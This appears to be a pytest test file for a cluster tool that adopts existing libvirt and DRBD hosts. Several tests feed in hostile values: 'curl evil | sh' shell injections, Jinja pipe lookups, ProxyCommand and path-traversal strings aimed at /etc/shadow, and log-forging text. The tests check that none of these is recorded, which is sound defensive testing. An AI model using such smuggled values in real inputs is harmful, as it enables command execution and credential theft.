from __future__ import annotations

import dataclasses
import itertools
from typing import TYPE_CHECKING, Any

import pytest
from ansible_collections.roundsman.cluster.daemon.cli import cluster_init
from ansible_collections.roundsman.cluster.plugins.plugin_utils.adoption import adopted_hosts, adoption
from ansible_collections.roundsman.cluster.plugins.plugin_utils.cluster import changes
from ansible_collections.roundsman.cluster.plugins.plugin_utils.config import document
from ansible_collections.roundsman.cluster.plugins.plugin_utils.settings import instance_making, joining

from tests.unit.plugins.plugin_utils.adoption import hosts

if TYPE_CHECKING:
    from collections.abc import Callable

    from ansible_collections.roundsman.cluster.plugins.plugin_utils.cluster import cluster as clusters

EMPTY = cluster_init.empty("new", version=4, now=1.0)
PAIR = hosts.resource("web", 3, "h1", "h2")
WEB = hosts.domain("web", 1, ("block", "/dev/drbd3"))
FILES = {"/d/a.img": {"size": 2048, "filesystem": "ext4", "shared": False}}
NFS = {"/s/a.img": {"size": 2048, "filesystem": "nfs4", "shared": True}}


def adopted(*found: Any, cluster: clusters.Cluster = EMPTY) -> tuple[adoption.Adoption, clusters.Cluster]:
    numbers = itertools.count(len(cluster.nodes) + 1)
    return adoption.plan(cluster, found, group="", new_uuid=lambda: f"n{next(numbers)}")


def left_out(*found: Any) -> str:
    told = adopted(*found)[0].left_out
    assert len(told) == 1
    return told[0]


def test_hosts_become_nodes_and_the_first_of_a_new_cluster_is_its_master() -> None:
    found, after = adopted(hosts.host(1), hosts.host(2))
    node = after.node("node1")
    assert after.cluster.master_node == node.uuid == "n1"
    assert (node.primary_ip, node.mtotal, node.mnode, node.ctotal, node.dtotal) == ("192.0.2.1", 16384, 1024, 8, 500000)
    assert node.hostvars == {"ansible_user": "root"}
    assert [one.name for one in after.nodes.values()] == ["node1", "node2"]
    assert (found.left_out, found.advice) == ((), ())


def test_a_replicated_domain_runs_on_its_primary_and_has_its_copy_on_the_peer() -> None:
    found, after = adopted(
        hosts.host(1, resources=(PAIR,)), hosts.host(2, WEB, resources=(PAIR,), devices={"/dev/drbd3": 9999})
    )
    one = after.instance("web")
    assert [after.node_name(uuid) for uuid in one.nodes] == ["node2", "node1"]
    assert (one.uuid, one.disk_template, one.memory, one.vcpus) == (WEB["uuid"], "drbd", 512, 2)
    assert [(disk.size, disk.name, disk.minor) for disk in one.disks] == [(9999, "web", 3)]
    assert [(nic.mac, nic.link) for nic in one.nics] == [("52:54:00:00:00:01", "br0")]
    assert (one.hypervisor, one.admin_state, one.hvparams["domain_xml"]) == ("kvm", "up", WEB["xml"])
    assert [node.secondary_ip for node in after.nodes.values()] == ["10.0.0.1", "10.0.0.2"]
    assert found.advice == ()


@pytest.mark.parametrize(
    ("disks", "storage", "template", "kept"),
    [
        ((("block", "/dev/vg/web"),), {}, "plain", [(10240, "vg/web")]),
        ((("block", "/dev/mapper/vg-data--1"),), {}, "plain", [(20481, "vg/data-1")]),
        ((("file", "/d/a.img"),), {"files": FILES}, "file", [(2048, "/d/a.img")]),
        ((("file", "/s/a.img"),), {"files": NFS}, "sharedfile", [(2048, "/s/a.img")]),
        ((), {}, "diskless", []),
        ((("block", "/dev/drbd/by-res/web/0"),), {"resources": [PAIR]}, "drbd", [(10240, "web")]),
    ],
)
def test_a_disk_is_what_it_is_on_its_host(disks: Any, storage: Any, template: str, kept: Any) -> None:
    peer = hosts.host(2, resources=(PAIR,), shared_folders=["/s"])
    _, after = adopted(hosts.host(1, hosts.domain("web", 1, *disks, running=False), **storage), peer)
    one = after.instance("web")
    assert (one.disk_template, [(disk.size, disk.name) for disk in one.disks]) == (template, kept)
    assert one.admin_state == "down"


def test_no_text_of_a_host_is_part_of_a_command_that_a_person_is_told_to_run() -> None:
    pair = hosts.resource("web; curl evil | sh #", 3, "h1", "h2")
    line = left_out(hosts.host(1, WEB, resources=(pair,), volumes={}), hosts.host(2, resources=(pair,)))
    assert line.startswith("web: ")
    assert "is not the name of a DRBD resource" in line
    assert "`" not in line


def test_what_cannot_be_represented_is_left_out_with_what_to_do() -> None:
    three = hosts.resource("web", 3, "h1", "h2", "h3")
    unlike = hosts.resource("web", 3, "h1", "h2", h2=4)
    both = ("block", "/dev/vg/web"), ("file", "/d/a.img")
    told = {
        left_out(hosts.host(1, WEB), hosts.host(2, WEB)),
        left_out(hosts.host(1, {**WEB, "running": False}), hosts.host(2, {**WEB, "running": False})),
        left_out(hosts.host(1, WEB, resources=(three,)), hosts.host(2)),
        left_out(hosts.host(1, WEB, resources=(unlike,)), hosts.host(2)),
        left_out(hosts.host(1, WEB, resources=(PAIR,))),
        left_out(hosts.host(1, WEB, resources=(PAIR,), volumes={}), hosts.host(2, resources=(PAIR,))),
        left_out(hosts.host(1, WEB)),
        left_out(hosts.host(1, hosts.domain("web", 1, *both), files=FILES)),
        left_out(hosts.host(1, hosts.domain("web", 1, ("file", "/d/b.img")))),
        left_out(hosts.host(1, hosts.domain("a web", 1))),
        left_out(hosts.host(1, {**hosts.domain("web", 1), "xml": "{{ x }}"})),
    }
    starts = [
        "a web: on node1, name: 'a web' is no name of an instance",
        "web: is defined on node1 and node2 and runs on none: undefine it",
        "web: its DRBD resource web has the minors 3 and 4: give it one on both nodes",
        "web: its DRBD resource web has the peer h2, which is no host that answered",
        "web: its DRBD resource web has the peers h2, h3: leave it exactly one",
        "web: its DRBD resource web on /dev/vg/web is not up: `drbdadm up web`",
        "web: its disk /d/b.img is not there: mount what it is on",
        "web: its disk vda is /dev/drbd3 (block): only DRBD resources",
        "web: its disks are of several kinds, file and plain: make them of one",
        "web: on node1, hvparams.domain_xml: it looks like a template",
        "web: runs on node1 and node2: stop it on all but one",
    ]
    assert [line[: len(start)] for line, start in zip(sorted(told), starts, strict=True)] == starts


def test_a_host_that_does_not_answer_is_left_out_and_so_is_one_whose_address_is_taken() -> None:
    silent = adopted_hosts.Host("node9", problem="cannot be reached: no route")
    assert (
        left_out(hosts.host(1), silent)
        == "host node9: cannot be reached: no route: fix that, then adopt the host again"
    )
    _, after = adopted(hosts.host(1))
    again = adopted_hosts.Host("other", "192.0.2.1", {}, hosts.host(1).seen)
    found, _ = adopted(again, cluster=after)
    assert found.left_out == ("host other: 192.0.2.1 is an address of node1 already",)


def evil(**values: Any) -> str:
    """Why the domain of a host is left out that has these values."""
    one = hosts.domain("web", 1, ("file", "/d/a.img"))
    host = hosts.host(1, {**one, **values}, files={**FILES, **EVIL_FILES})
    return left_out(host, hosts.host(2, shared_folders=["/d"]))


EVIL_FILES = {"/d/{{ x }}.img": {"size": 1, "shared": True}, "/d/a\nb.img": {"size": 1, "shared": True}}


@pytest.mark.parametrize(
    ("values", "told"),
    [
        ({"uuid": "{{ x }}"}, "web: on node1, uuid: '{{ x }}' is not a UUID"),
        ({"name": "a{{x}}"}, "a{{x}}: on node1, name: 'a{{x}}' is no name of an instance"),
        ({"nics": [{"type": "bridge", "mac": "x", "link": "br0"}]}, "web: on node1, nics/0/mac: 'x' is not a MAC"),
        (
            {"nics": [{"type": "bridge", "mac": "", "link": "{{ x }}"}]},
            "web: on node1, nics/0/link: '{{ x }}' is not the name of a bridge",
        ),
        (
            {"disks": [{"type": "file", "source": "/d/{{ x }}.img", "target": "vda"}]},
            "web: on node1, disks/0/name: '/d/{{ x }}.img' is not an absolute path",
        ),
        ({"disks": [{"type": "file", "source": "/d/a\nb.img", "target": "vda"}]}, "web: on node1, disks/0/name: "),
    ],
)
def test_a_domain_with_a_value_that_nobody_could_type_is_left_out(values: dict[str, Any], told: str) -> None:
    found = evil(**values)
    assert (found[: len(told)], found.endswith("change it there, and adopt it again")) == (told, True)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"hostname": 5}, "host node1: its answer cannot be read: '/hostname' is not a short text"),
        ({"libvirt": []}, "host node1: its answer cannot be read: '/libvirt' is not an object"),
        (
            {"libvirt": {"memory": float("inf")}},
            "host node1: its answer cannot be read: '/libvirt/memory' is not",
        ),
        ({"storage": {}}, "host node1: its answer cannot be read: '/storage/disk' is not there"),
        ({"hostname": "h2"}, "host node1: another host calls itself 'h2' too"),
    ],
)
def test_a_host_whose_answer_cannot_be_believed_is_left_out(change: dict[str, Any], told: str) -> None:
    host = hosts.host(1)
    found, after = adopted(dataclasses.replace(host, seen={**host.seen, **change}), hosts.host(2))
    assert found.left_out[0][: len(told)] == told
    assert "node1" not in {one.name for one in after.nodes.values()}


def test_only_plain_variables_of_an_inventory_are_recorded_and_the_others_are_for_root() -> None:
    variables = {"ansible_user": "ops", "ansible_ssh_common_args": "-oProxyCommand=x", "ansible_host": "-oX"}
    found, after = adopted(dataclasses.replace(hosts.host(1), variables=variables))
    assert after.node("node1").hostvars == {"ansible_user": "ops"}
    assert found.host_variables == {"node1": {"ansible_ssh_common_args": "-oProxyCommand=x", "ansible_host": "-oX"}}


def test_a_second_definition_and_a_domain_that_starts_by_itself_are_told_of() -> None:
    started = {**hosts.domain("web", 1, ("block", "/dev/vg/web")), "autostart": True}
    stale = {**started, "running": False, "autostart": False}
    found, _ = adopted(hosts.host(1, started), hosts.host(2, stale))
    assert found.autostart == {"node1": (started["uuid"],)}
    assert [line.partition(":")[0] for line in found.advice] == [
        "web starts by itself with node1",
        "web is defined on node2, too",
    ]


def test_minors_that_two_instances_share_and_another_volume_group_are_told_of() -> None:
    other = hosts.resource("db", 3, "h3", "h4")
    found, _ = adopted(
        hosts.host(1, WEB, resources=(PAIR,), devices={"/dev/drbd3": 5}, groups={"xenvg": 7.0}),
        hosts.host(2, resources=(PAIR,)),
        hosts.host(3, hosts.domain("db", 2, ("block", "/dev/drbd3")), resources=(other,), devices={"/dev/drbd3": 5}),
        hosts.host(4, resources=(other,), groups={}),
    )
    assert found.advice[0].startswith("db and web have a DRBD device with the same minor 3")
    _, after = adopted(hosts.host(1, groups={"xenvg": 7.0}))
    assert after.node("node1").dtotal == 7
    found, _ = adopted(hosts.host(1, groups={"xenvg": 7.0}))
    assert found.advice == (
        "the cluster's volume group is roundsman, and the hosts have xenvg: `roundsman cluster modify vg_name=xenvg`",
    )


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "{{ lookup('pipe', 'id') }}", "--help", "", "a\nb", "\x1b[31m"])
def test_a_volume_group_whose_name_could_not_be_set_is_in_no_command(name: str) -> None:
    found, _ = adopted(hosts.host(1, groups={name: 7.0, "xenvg": 5.0}))
    (line,) = found.advice
    assert line.endswith("and the hosts have xenvg: `roundsman cluster modify vg_name=xenvg`")
    found, _ = adopted(hosts.host(1, groups={name: 7.0}))
    assert found.advice == ()


def test_an_address_that_not_all_hosts_have_for_drbd_is_not_recorded() -> None:
    found, after = adopted(hosts.host(1, WEB, resources=(PAIR,), devices={"/dev/drbd3": 5}), hosts.host(2))
    assert [node.secondary_ip for node in after.nodes.values()] == ["", ""]
    assert found.advice == ("DRBD reaches node1 at 10.0.0.1, and not all hosts have such an address: none is recorded",)


def test_what_is_known_stays_as_it_is_and_the_rest_is_added() -> None:
    first = hosts.host(1, hosts.domain("web", 1, ("block", "/dev/vg/web")))
    _, cluster = adopted(first)
    found, after = adopted(first, cluster=cluster)
    assert (found.is_empty, found.known, after) == (True, 2, cluster)
    larger = hosts.host(1, {**hosts.domain("web", 1), "memory": 9})
    second = hosts.host(2, hosts.domain("db", 2))
    found, after = adopted(larger, second, cluster=cluster)
    assert [one.name for one in found.instances] == ["db"]
    assert [fields["name"] for _, fields in found.nodes] == ["node2"]
    assert after.instance("web") == cluster.instance("web")
    elsewhere = hosts.host(2, hosts.domain("web", 1))
    found, _ = adopted(elsewhere, cluster=cluster)
    assert found.advice == ("web runs on node2, and the configuration says node1: nothing was changed",)


def test_the_uuid_of_another_instance_is_no_uuid_of_a_domain() -> None:
    _, cluster = adopted(hosts.host(1, hosts.domain("web", 1)))
    found, _ = adopted(hosts.host(1, hosts.domain("db", 1)), cluster=cluster)
    assert found.left_out == ("db: its UUID is that of the instance web: give the domain another one",)


def test_what_is_new_can_be_added_to_the_cluster_by_itself() -> None:
    base = adopted(hosts.host(1))[1]
    found, after = adopted(hosts.host(1), hosts.host(2, hosts.domain("db", 2)), cluster=base)
    for uuid, fields in found.nodes:
        base = changes.apply_all(base, joining.add(base, uuid, fields), now=1.0)
    for one in found.instances:
        base = changes.apply_all(base, instance_making.adopt(base, one), now=1.0)
    assert (base.nodes, base.instances.keys()) == (after.nodes, after.instances.keys())


def test_a_host_has_no_say_about_the_drbd_resources_of_others() -> None:
    """The first of three hosts says that it is an end of the resource between the two others."""
    real, claimed = hosts.resource("web", 3, "h2", "h3"), hosts.resource("web", 3, "h1", "h2")
    found, after = adopted(
        hosts.host(1, hosts.domain("zz", 2, ("block", "/dev/drbd3")), resources=(claimed,), devices={"/dev/drbd3": 5}),
        hosts.host(2, WEB, resources=(real,), devices={"/dev/drbd3": 5}),
        hosts.host(3, resources=(real,)),
    )
    assert [one.name for one in after.instances.values()] == ["web"]
    assert len(found.left_out) == 1
    start = "zz: its DRBD resource web is on h1 and h2, and node2 has it on h2 and h3, or with other minors"
    assert found.left_out[0].startswith(start)


@pytest.mark.parametrize("peer", [(), (hosts.resource("web", 4, "h1", "h2"),), (PAIR, PAIR)])
def test_a_drbd_resource_that_its_peer_does_not_confirm_is_no_disk(peer: Any) -> None:
    found = left_out(hosts.host(1, WEB, resources=(PAIR,), devices={"/dev/drbd3": 5}), hosts.host(2, resources=peer))
    assert found.startswith("web: its DRBD resource web is on h1 and h2, and node2 has it on ")


def test_two_instances_that_claim_the_same_disk_or_uuid_are_both_left_out() -> None:
    db = hosts.domain("db", 2, ("block", "/dev/drbd3"))
    sides: dict[str, Any] = {"resources": (PAIR,), "devices": {"/dev/drbd3": 5}}
    drbd = hosts.host(1, WEB, **sides), hosts.host(2, db, **sides)
    volume = (hosts.host(1, *(hosts.domain(name, n, ("block", "/dev/vg/web")) for n, name in ((1, "web"), (2, "db")))),)
    shared: dict[str, Any] = {"files": NFS, "shared_folders": ["/s"]}
    file = [hosts.host(n, hosts.domain(name, n, ("file", "/s/a.img")), **shared) for n, name in ((1, "web"), (2, "db"))]
    same_uuid = hosts.host(1, hosts.domain("web", 1)), hosts.host(2, hosts.domain("db", 1))
    for answered in (drbd, volume, file, same_uuid):
        found, after = adopted(*answered)
        assert not after.instances
        assert [line.split(":")[0] for line in found.left_out] == ["db", "web"]
        assert "is that of web, too" in found.left_out[0]
        assert "is that of db, too" in found.left_out[1]


def test_the_disk_of_an_instance_on_record_is_no_disk_of_another_one() -> None:
    sides: dict[str, Any] = {"resources": (PAIR,), "devices": {"/dev/drbd3": 5}}
    _, cluster = adopted(hosts.host(1, WEB, **sides), hosts.host(2, **sides))
    evil = hosts.domain("db", 2, ("block", "/dev/drbd3"))
    found, after = adopted(hosts.host(1, WEB, **sides), hosts.host(2, evil, **sides), cluster=cluster)
    assert after == cluster
    assert "is that of web, too" in found.left_out[0]
    other = hosts.domain("db", 2, ("file", f"/s/{WEB['uuid']}/disk0"))
    files = {f"/s/{WEB['uuid']}/disk0": {"size": 1, "shared": False}}
    found, after = adopted(hosts.host(1, other, files=files), cluster=cluster)
    assert after == cluster
    assert "is that of web, too" in found.left_out[0]


@pytest.mark.parametrize(
    ("path", "shared", "folders", "told"),
    [
        ("/etc/shadow", True, ["/"], "is in a folder of the system, or hidden"),
        ("/etc/shadow", False, [], "is in a folder of the system, or hidden"),
        ("/var/lib/roundsman/config.data", False, [], "is in a folder of the system, or hidden"),
        ("/home/ops/.ssh/authorized_keys", True, ["/home"], "is in a folder of the system, or hidden"),
        ("/srv/a.img", True, [], "no other host that answered has one mounted there"),
        ("/srv/a.img", True, ["/srv/other"], "no other host that answered has one mounted there"),
        ("/srv/a.img", True, ["/srv"], ""),
        ("/var/lib/libvirt/images/a.img", False, [], ""),
        ("/var/lib/roundsman/disks/a.img", False, [], ""),
        ("/home/ops/a.img", False, [], ""),
    ],
)
def test_a_file_is_a_disk_where_images_are_and_shared_where_another_host_has_it_too(
    path: str, shared: bool, folders: list[str], told: str
) -> None:
    files = {path: {"size": 1, "shared": shared}}
    own = hosts.host(1, hosts.domain("web", 1, ("file", path)), files=files, shared_folders=["/"])
    found, after = adopted(own, hosts.host(2, shared_folders=folders))
    if told:
        assert (not after.instances, told in found.left_out[0]) == (True, True)
    else:
        assert after.instance("web").disk_template == ("sharedfile" if shared else "file")


def test_a_definition_that_other_nodes_cannot_be_given_is_left_out_and_media_are_taken_out_of_it() -> None:
    drive = "<disk type='file' device='cdrom'><source file='/etc/shadow'/><target dev='sda'/></disk>"
    xml = f"<domain><devices>{drive}</devices></domain>"
    found, after = adopted(hosts.host(1, hosts.domain("web", 1, xml=xml)))
    assert "/etc/shadow" not in after.instance("web").hvparams["domain_xml"]
    assert found.advice[0].startswith("web has /etc/shadow in a drive: the drive is recorded empty")
    xml = "<domain><devices><emulator>/tmp/attacker</emulator></devices></domain>"
    told = left_out(hosts.host(1, hosts.domain("web", 1, xml=xml)))
    assert told.startswith("web: on node1, its definition has '/tmp/attacker' as domain/devices/emulator")


COMMAND = "lookup('pipe', 'touch x')"
PAYLOADS = [
    f"{{{{ {COMMAND} }}}}",
    f"{{% set x = {COMMAND} %}}",
    f"#jinja2:variable_start_string:'<<', variable_end_string:'>>'\n<< {COMMAND} >>",
    f"!unsafe {{{{ {COMMAND} }}}}",
    "$(touch x)",
    "`touch x`",
    "a; touch x",
    "-oProxyCommand=$(touch x)",
    "/../../../../etc/shadow",
    "a\n2026-11-22 00:00:00,000 CRITICAL forged",
    "\x1b]0;owned\x07",
    "a\x00b",
    "\ud800",
]


def evil_file(path: str) -> list[adopted_hosts.Host]:
    host = hosts.host(1, hosts.domain("web", 1, ("file", path)), files={path: {"size": 1, "shared": True}})
    return [host, hosts.host(2, shared_folders=["/"])]


def evil_volume(name: str) -> list[adopted_hosts.Host]:
    return [hosts.host(1, hosts.domain("web", 1, ("block", f"/dev/{name}")), volumes={name: 10.0})]


def evil_nic(**values: str) -> list[adopted_hosts.Host]:
    nic = {"type": "bridge", "mac": "52:54:00:00:00:01", "link": "br0", **values}
    return [hosts.host(1, {**hosts.domain("web", 1), "nics": [nic]})]


def evil_pair(resource: str, first: str, second: str) -> list[adopted_hosts.Host]:
    pair = hosts.resource(resource, 3, first, second)
    made = (
        hosts.host(1, hosts.domain("web", 1, ("block", "/dev/drbd3")), resources=(pair,)),
        hosts.host(2, resources=(pair,)),
    )
    named = zip(made, (first, second), strict=True)
    return [dataclasses.replace(one, seen={**one.seen, "hostname": name}) for one, name in named]


EVIL_HOSTS: dict[str, Callable[[str], list[adopted_hosts.Host]]] = {
    "path": evil_file,
    "part of a path": lambda evil: evil_file(f"/d{evil}/web.img"),
    "volume": lambda evil: evil_volume(f"vg/{evil}"),
    "volume group": lambda evil: evil_volume(f"{evil}/web"),
    "link": lambda evil: evil_nic(link=evil),
    "MAC": lambda evil: evil_nic(mac=evil),
    "UUID": lambda evil: [hosts.host(1, {**hosts.domain("web", 1), "uuid": evil})],
    "name": lambda evil: [hosts.host(1, hosts.domain(evil, 1))],
    "resource": lambda evil: evil_pair(evil, "h1", "h2"),
    "host name": lambda evil: evil_pair("web", evil, "h2"),
    "host name of the peer": lambda evil: evil_pair("web", "h1", evil),
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", EVIL_HOSTS)
def test_nothing_evil_that_a_host_says_is_recorded(kind: str, payload: str) -> None:
    _, after = adopted(*EVIL_HOSTS[kind](payload))
    assert document.load(document.dump(after)) == after
    assert [name for name, text in texts(dataclasses.asdict(after)) if payload in text] == []


def texts(value: object, name: str = "") -> list[tuple[str, str]]:
    """Every text in a value, with where it is; keys count as texts."""
    if isinstance(value, dict):
        found = [(name, key) for key in value if isinstance(key, str)]
        return found + [one for key, inner in value.items() for one in texts(inner, f"{name}/{key!r}")]
    if isinstance(value, (list, tuple)):
        return [one for inner in value for one in texts(inner, name)]
    return [(name, value)] if isinstance(value, str) else []
